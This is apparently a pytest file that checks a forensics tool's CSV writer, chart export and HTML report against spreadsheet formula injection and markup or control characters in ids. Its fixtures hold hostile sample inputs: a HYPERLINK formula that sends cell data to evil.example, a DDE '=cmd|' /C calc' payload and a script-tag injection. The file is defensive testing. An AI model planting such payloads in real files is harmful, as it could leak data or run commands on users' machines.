"""Outputs stay safe when the data is hostile: no formula runs when a CSV output is opened in a
spreadsheet (OWASP "CSV Injection"), and ids holding control characters, U+2028 or
`<!--<script>` neither crash the chart export nor stop the report's charts.

The hostile case is tests/fixtures/case_small with some account ids, request ids and the
accounts file rewritten (`HOSTILE_ACCOUNTS`, ...), so every figure stays the one derived by
hand in case_small/README.md; only the text changes.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import polars as pl
import pytest
from case_small_db import CASE_DIR
from typer.testing import CliRunner

from forensics.cli import app
from forensics.formats import printable, write_csv
from forensics.render.figures import script_json
from forensics.render.headline import headline

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\x00")

HOSTILE_ACCOUNTS = {
    "acct-alice": "-alice",
    "acct-bob": "acct-<!--<script>bob</script>",
    "acct-carol": "acct-\x01carol\x1b[31m",
    "acct-erin": '=HYPERLINK("http://evil.example/?"&A1)\u2028erin',
    "acct-frank": "@frank\ufffe\x7f",
    "acct-dave": "+dave\u2029",
}
HOSTILE_REQUESTS = {"r02": "=r02", "r03": "0r03", "r04": "=r04"}
ACCOUNTS_HEADER = ["account_id", "name", "email", "-notes"]
ACCOUNTS_ROWS = [
    ["-alice", "=cmd|' /C calc'!A0", "alice@example.com", "+1-555-0100"],
    ["acct-<!--<script>bob</script>", "Bob;=1+1", "@bob", "-2"],
    ["@frank\ufffe\x7f", "\tTab Co", "frank@example.com", ""],
    ["acct-qa", "Ops QA", "\rqa@example.internal", "ok"],
]


def hostile_case(folder: Path) -> Path:
    """case_small with the hostile ids and accounts file written into `folder`; its case file."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("incident.toml", "researchers.txt"):
        shutil.copy(CASE_DIR / name, folder / name)
    with (CASE_DIR / "requests.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        row["account_id"] = HOSTILE_ACCOUNTS.get(row["account_id"], row["account_id"])
        row["request_id"] = HOSTILE_REQUESTS.get(row["request_id"], row["request_id"])
    with (folder / "requests.csv").open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(
            f, fieldnames=list(rows[0]), lineterminator="\n", quoting=csv.QUOTE_ALL
        )
        writer.writeheader()
        writer.writerows(rows)
    with (folder / "accounts.csv").open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f, lineterminator="\n", quoting=csv.QUOTE_ALL)  # \r stays in a cell
        writer.writerow(ACCOUNTS_HEADER)
        writer.writerows(ACCOUNTS_ROWS)
    return folder / "incident.toml"


def neutral(text: str) -> str:
    """A text cell as a spreadsheet must receive it: a formula start gets a leading '."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def read_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> tuple[Path, str]:
    """`forensics run` on the hostile case: (out folder, stdout + stderr)."""
    base = tmp_path_factory.mktemp("hostile")
    case = hostile_case(base / "case")
    result = CliRunner().invoke(app, ["run", str(case), "--out", str(base / "out")])
    assert result.exit_code == 0, result.output
    return base / "out", result.output


# --- CSV formula injection: one writer for every CSV output --------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_cell_starting_a_formula_gets_a_leading_quote(tmp_path, start):
    path = write_csv(pl.DataFrame({"account_id": [f"{start}1+1", "plain"]}), tmp_path / "x.csv")
    assert read_csv(path) == [["account_id"], [f"'{start}1+1"], ["plain"]]


def test_numbers_are_written_as_numbers_a_negative_one_included(tmp_path):
    frame = pl.DataFrame({"tokens": [-5, 7], "note": ["-5", "7"]})
    assert write_csv(frame, tmp_path / "x.csv").read_text() == "tokens,note\n-5,'-5\n7,7\n"


def test_a_header_cell_starting_a_formula_gets_a_leading_quote(tmp_path):
    frame = pl.DataFrame({"account_id": ["a"], "=HYPERLINK(1)": ["b"]})
    assert read_csv(write_csv(frame, tmp_path / "x.csv"))[0] == ["account_id", "'=HYPERLINK(1)"]


def test_a_formula_after_a_semicolon_or_tab_gets_a_quote_and_the_cell_is_quoted_whole(tmp_path):
    frame = pl.DataFrame({"request_ids": ["r01;=r02", "r01;r02", "a\t@b", ";\t=x"]})
    text = write_csv(frame, tmp_path / "x.csv").read_text()
    # each part after a ; or tab that starts a formula gets a ' (the tab of ";\t=x" is such a
    # start itself, and the = after it another): ";'\t'=x"
    assert text == 'request_ids\n"r01;\'=r02"\nr01;r02\n"a\t\'@b"\n";\'\t\'=x"\n'


def test_a_spreadsheet_splitting_lines_on_semicolons_or_tabs_finds_no_formula(tmp_path):
    # A spreadsheet in a locale whose separator is ; reads a line of recipients.csv as fields
    # split at every ;, quotes or not: the cell "r1;=r2" of the third column was quoted whole,
    # yet its part =r2 became a field of its own and ran. Written by hand: the line is
    # acct-a,2,"r1;'=r2","Bob;'@x<TAB>'+y": split at ; -> acct-a,2,"r1 / '=r2","Bob /
    # '@x<TAB>'+y" and at the tab -> ...'@x / '+y": no field starts a formula
    frame = pl.DataFrame(
        {
            "account_id": ["acct-a"],
            "responses": [2],
            "request_ids": ["r1;=r2"],
            "name": ["Bob;@x\t+y"],
        }
    )
    text = write_csv(frame, tmp_path / "x.csv").read_text()
    assert text == 'account_id,responses,request_ids,name\nacct-a,2,"r1;\'=r2","Bob;\'@x\t\'+y"\n'
    for line in text.splitlines():
        for field in re.split("[;\t]", line):
            assert not field.startswith(FORMULA_STARTS), (line, field)


def test_quotes_and_separators_in_a_neutralized_cell_stay_valid_csv(tmp_path):
    cells = ['=A1,"x"', "+\n2", '@"', "-", "", None]
    frame = pl.DataFrame({"c": cells, "n": range(6)})
    rows = read_csv(write_csv(frame, tmp_path / "x.csv"))
    assert [r[0] for r in rows] == ["c", '\'=A1,"x"', "'+\n2", "'@\"", "'-", "", ""]


def test_normal_data_gives_the_bytes_polars_writes(tmp_path):
    frame = pl.DataFrame(
        {
            "account_id": ["acct-a", "Bob, Inc.", 'say "hi"', "two\nlines", "", None, "x;y"],
            "n": [1, -2, 3, None, 5, 6, 7],
        }
    )
    plain = io.BytesIO()
    frame.write_csv(plain, include_header=True, line_terminator="\n", null_value="")
    assert write_csv(frame, tmp_path / "x.csv").read_bytes() == plain.getvalue()


def test_run_neutralizes_ids_in_exposed_requests_csv(hostile_run):
    out, _ = hostile_run
    rows = read_csv(out / "exposed_requests.csv")
    assert rows[0][:3] == ["request_id", "ts", "account_id"]
    ids = {(r[0], r[2]) for r in rows[1:]}
    # r02 (alice), r03/r04 (bob), r13 (erin): case_small/README.md's exposed rows
    assert ("'=r02", "'-alice") in ids
    assert ("0r03", "acct-<!--<script>bob</script>") in ids
    assert ("'=r04", "acct-<!--<script>bob</script>") in ids
    assert ("r13", neutral(HOSTILE_ACCOUNTS["acct-erin"])) in ids
    assert [r[4] for r in rows[1:]] == ["601", "500", "1000", "250", "700", "850", "950", "900"]


def test_run_neutralizes_ids_and_contacts_in_the_notify_lists(hostile_run):
    out, _ = hostile_run
    recipients = {r[0]: r for r in read_csv(out / "notify" / "recipients.csv")[1:]}
    # request_ids, then completion_tokens, empty_responses, unknown_responses,
    # uncertain_responses, possible_requests (case_small: alice 9, 1, 0, 0, 0; bob 70, 1, 0,
    # 0, 0), then the contact columns
    assert recipients["'-alice"][1] == "proven"
    assert recipients["'-alice"][5:] == [
        "'=r02;r16",
        "9",
        "1",
        "0",
        "0",
        "0",
        "'=cmd|' /C calc'!A0",
        "alice@example.com",
        "'+1-555-0100",
    ]
    assert recipients["acct-<!--<script>bob</script>"][5:] == [
        "0r03;'=r04;r17",
        "70",
        "1",
        "0",
        "0",
        "0",
        "Bob;'=1+1",
        "'@bob",
        "'-2",
    ]
    assert neutral(HOSTILE_ACCOUNTS["acct-erin"]) in recipients
    header = read_csv(out / "notify" / "data_owners.csv")[0]
    assert header[-1] == "'-notes"
    owners = {r[0]: r for r in read_csv(out / "notify" / "data_owners.csv")[1:]}
    # excluded_reason, read_by (case_small: every owner's is exposed), then the contacts
    assert owners["'@frank\ufffe\x7f"][7] == "'\tTab Co"
    assert owners["acct-qa"][5:] == [
        "internal-test",
        "exposed",
        "Ops QA",
        "'\rqa@example.internal",
        "ok",
    ]
    assert "'+dave\u2029" in owners


def test_run_writes_no_cell_that_starts_a_formula(hostile_run):
    out, _ = hostile_run
    for name in (
        "exposed_requests.csv",
        *(f"notify/{n}.csv" for n in ("recipients", "data_owners", "excluded", "no_contact")),
        "notify/notices/index.csv",
    ):
        raw = (out / name).read_text(encoding="utf-8")
        for row in read_csv(out / name):
            assert not [c for c in row if c.startswith(FORMULA_STARTS)], (name, row)
        # no part after a ; or tab starts a formula (a spreadsheet may split there)
        assert not re.search(r"[;\t][=+\-@]", raw), name


# --- charts and report with control characters and markup in ids ---------------------------


def test_run_exits_0_and_writes_the_timeline_with_control_characters_in_ids(hostile_run):
    out, _ = hostile_run
    assert (out / "timeline.png").stat().st_size > 10_000
    svg = ET.parse(out / "timeline.svg").getroot()  # well-formed XML 1.0
    text = "".join(svg.itertext())
    assert "acct-\\x01carol\\x1b[31m" in text  # the lane label, escaped


def test_report_script_holds_no_markup_from_the_data(hostile_run):
    out, _ = hostile_run
    html = (out / "report.html").read_text(encoding="utf-8")
    script = html[html.rindex("<script>") :]
    specs = script[script.index("var specs = ") :]
    specs = specs[: specs.index(";\n")]
    assert "<" not in specs and ">" not in specs and "&" not in specs
    assert "acct-\\u003c!--\\u003cscript\\u003ebob\\u003c/script\\u003e" in specs


def test_report_tables_show_control_characters_as_escapes(hostile_run):
    out, _ = hostile_run
    html = (out / "report.html").read_text(encoding="utf-8")
    body = html[: html.index("<script>")]
    assert "acct-\\x01carol\\x1b[31m" in body
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u2028\u2029\ufffe]", body)
    assert "acct-&lt;!--&lt;script&gt;bob&lt;/script&gt;" in body


def test_run_warnings_show_ids_on_one_printable_line(hostile_run):
    _, output = hostile_run
    warnings = [line for line in output.splitlines() if line.startswith("warning:")]
    missing = next(w for w in warnings if "affected account(s) not in accounts.csv" in w)
    assert "acct-\\x01carol\\x1b[31m" in missing and "\\u2028erin" in missing
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u2028\u2029]", output)


def test_script_json_escapes_markup_and_keeps_the_value():
    value = {"id": "</script><!--<script>&\u2028\u2029"}
    text = script_json(value)
    assert not re.search("[<>&\u2028\u2029]", text)
    assert json.loads(text) == value


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("acct-1", "acct-1"),
        ("a\x01b", "a\\x01b"),
        ("a\x00b\x1b", "a\\x00b\\x1b"),
        ("a\x7f\x85", "a\\x7f\\x85"),
        ("a\u2028b\u2029", "a\\u2028b\\u2029"),
        ("a\ufffe\uffff", "a\\ufffe\\uffff"),
        ("tab\tand\nline", "tab\tand\nline"),
        ("é 中 \U0001f600", "é 中 \U0001f600"),
    ],
)
def test_printable_escapes_what_svg_and_vega_cannot_draw(text, shown):
    assert printable(text) == shown


def test_printable_on_one_line_escapes_tab_and_newline_too():
    assert printable("a\tb\nc\r", one_line=True) == "a\\x09b\\x0ac\\x0d"


# --- what the commands print ------------------------------------------------------------------


def test_run_prints_the_ingest_quarantine_count(hostile_run):
    _, output = hostile_run
    assert "ingest: 29 record(s) read, 29 loaded, 0 duplicate(s), 0 quarantined" in output


def test_capacity_prints_its_double_bracket_entries_literally(tmp_path):
    logs = Path(__file__).parent / "fixtures" / "sglang"
    result = CliRunner().invoke(
        app,
        [
            "capacity",
            str(logs / "prefill-0.log"),
            "--db",
            str(tmp_path / "c.duckdb"),
            "--out",
            str(tmp_path / "capacity.toml"),
        ],
    )
    assert result.exit_code == 0, result.output
    assert re.search(r"^wrote \d+ \[\[capacity\]\] entries to ", result.output, re.MULTILINE)


def test_headline_names_the_quarantined_records_of_the_bundled_case():
    # sample_logs/glm53/truth.json: 77,731 records read = 77,724 + 4 duplicates + 3 quarantined
    truth = json.loads((CASE_DIR.parents[2] / "sample_logs" / "glm53" / "truth.json").read_text())
    lines = headline({"ingest": truth["ingest"]}).splitlines()
    assert (
        "ingest: 77,731 record(s) read, 77,724 loaded, 4 duplicate(s), 3 quarantined "
        "(each with its reason in the quarantine table)"
    ) in lines
